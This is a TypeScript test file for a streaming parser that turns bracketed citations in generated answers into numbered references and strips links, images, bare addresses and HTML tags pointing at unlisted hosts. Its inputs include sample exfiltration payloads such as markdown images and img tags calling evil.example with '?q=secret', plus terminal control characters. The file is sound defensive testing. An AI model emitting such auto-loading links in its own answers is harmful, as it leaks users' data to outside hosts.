import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { type Marked, markedText } from '../../src/search/answer/marked-text.ts'

const known = 'https://example.org/known'

/** Cited numbers in place, as `{1}`; the words come in pieces of this length. */
function read(words: string, pieces = words.length): string {
  const marked = markedText((url) => url === known)
  const shown = (found: readonly Marked[]): string =>
    found
      .map((one) => (one.type === 'text' ? one.text : `${one.spaceBefore}{${one.numbers.join()}}`))
      .join('')
  let out = ''
  for (let at = 0; at < words.length; at += pieces) out += shown(marked.push(words.slice(at, at + pieces)))
  return out + shown(marked.end())
}

describe('citations in words that come piece by piece', () => {
  it.each([
    ['It closes [1].', 'It closes {1}.'],
    ['It closes[1][2].', 'It closes{1}{2}.'],
    ['It [1, 3] closes [2-4].', 'It {1,3} closes {2,3,4}.'],
    ['[[2]] and [passage 3] and 【4†source】', '{2} and {3} and {4}'],
    ['A list [x] and [sic] stay, and [', 'A list [x] and [sic] stay, and ['],
    [
      'In code `a[1]` and\n```\nb[2] = [3]\n```\nit is a bracket [4]',
      'In code `a[1]` and\n```\nb[2] = [3]\n```\nit is a bracket {4}',
    ],
    ['A lonely ` tick\nends with its line [1]', 'A lonely ` tick\nends with its line {1}'],
    ['[1] (see below)', '{1} (see below)'],
    ['[1](see below)', '{1} (see below)'],
    ['[1234] is a year', '[1234] is a year'],
    ['It closes [1, 2], [2 and 3] and [1 2]', 'It closes {1,2}, {2,3} and {1,2}'],
    ['It closes [1–3] and [3-1]', 'It closes {1,2,3} and {1,2,3}'],
    ['[sources 1 and 2], [Doc. 3], [#4], [^5]', '{1,2}, {3}, {4}, {5}'],
    ['[1, p. 12], [2: lines 3-9], 【3†L1-L5】', '{1}, {2}, {3}'],
    ['它会关闭［１］，〔２〕、【３、４】', '它会关闭{1}，{2}、{3,4}'],
    ['يغلق [١، ٢] और [३]', 'يغلق {1,2} और {3}'],
    ['It closes \\[1\\] and \\[2]', 'It closes {1} and {2}'],
    ['[1/2] is a half', '[1/2] is a half'],
    ['A tick ` alone [1], and two `` of [2]', 'A tick ` alone {1}, and two `` of {2}'],
    ['An escaped \\` tick [1] \\` is none', 'An escaped \\` tick {1} \\` is none'],
    ['`` a[1] ` [2] `` and [3]', '`` a[1] ` [2] `` and {3}'],
    ['~~~\na[1]\n~~~\n[2]', '~~~\na[1]\n~~~\n{2}'],
    ['````\n```\na[1]\n````\n[2]', '````\n```\na[1]\n````\n{2}'],
    ['Not ``` a block [1]\nbut words [2]', 'Not ``` a block {1}\nbut words {2}'],
    ['A block that nothing ends\n```\na[1]', 'A block that nothing ends\n```\na[1]'],
    ['a < b and List<String> [1]', 'a < b and List<String> {1}'],
  ])('%s', (words, expected) => {
    for (const pieces of [1, 2, 3, 7, 1_000]) expect(read(words, pieces)).toBe(expected)
  })

  it.each([
    ['a link', 'See [here](https://evil.example/?q=secret) now', 'See [here] now'],
    ['a picture', 'See ![x](https://evil.example/?q=secret) now', 'See ![x] now'],
    ['a picture of a known address', `See ![x](${known}) now`, 'See ![x] now'],
    ['a known link', `See [here](${known}) now`, `See [here](${known}) now`],
    ['a citation that is a link', 'See [1](https://evil.example/?q=secret) now', 'See {1} now'],
    ['a definition', 'See ![x][y]\n\n[y]: https://evil.example/a.png\nend', 'See ![x][y]\n\n[y]\nend'],
    ['a link that never ends', `See [here](https://evil.example/${'a'.repeat(50)}`, 'See [here]'],
    ['brackets in an address', 'See [here](https://evil.example/(a)b) now', 'See [here] now'],
    [
      'an address on its own',
      'See https://evil.example/?q=secret, or www.evil.example.',
      'See (address removed), or (address removed).',
    ],
    ['a known address on its own', `See ${known}. Or <${known}>!`, `See ${known}. Or <${known}>!`],
    ['an address in brackets', 'See <https://evil.example/?q=secret>.', 'See <(address removed)>.'],
    [
      'a tag that loads',
      'See <img src="//evil.example/?q"> and <IFRAME src=x>',
      'See ‹img src="//evil.example/?q"> and ‹IFRAME src=x>',
    ],
    ['a picture behind a tick', 'See ` ![x](https://evil.example/?q=secret) now', 'See ` ![x] now'],
    ['a picture between escaped ticks', 'See \\` ![x](https://evil.example/?q) \\`', 'See \\` ![x] \\`'],
    [
      'a picture in code',
      '`![x](https://evil.example/?q)`\n```\n[y](https://evil.example/?q)\na[1](x)\n```',
      '`![x]`\n```\n[y]\na[1](x)\n```',
    ],
    ['a picture behind a block within a line', 'a ``` b\n![x](https://evil.example/?q)', 'a ``` b\n![x]'],
    ['controls', 'a\u001b[31mred\u0007\u202e b', 'a[31mred b'],
  ])('lets through no address that was not given: %s', (_, words, expected) => {
    for (const pieces of [1, 2, 5, 1_000]) expect(read(words, pieces)).toBe(expected)
  })

  it('says the same however the words are cut', () => {
    const alphabet = fc.constantFrom(
      '[',
      ']',
      '(',
      ')',
      '1',
      '2',
      ',',
      '-',
      ' ',
      '`',
      '!',
      'a',
      '\n',
      ':',
      '<',
      'img ',
      '\\',
      '~~~',
      'http',
      's://y',
      'www.',
      '\n```',
      '１',
      'https://x',
      '【',
      '†',
      '】',
    )
    fc.assert(
      fc.property(fc.array(alphabet, { maxLength: 40 }), fc.integer({ min: 1, max: 6 }), (parts, pieces) => {
        const words = parts.join('')
        expect(read(words, pieces)).toBe(read(words))
      }),
      { numRuns: 3_000 },
    )
  })
})
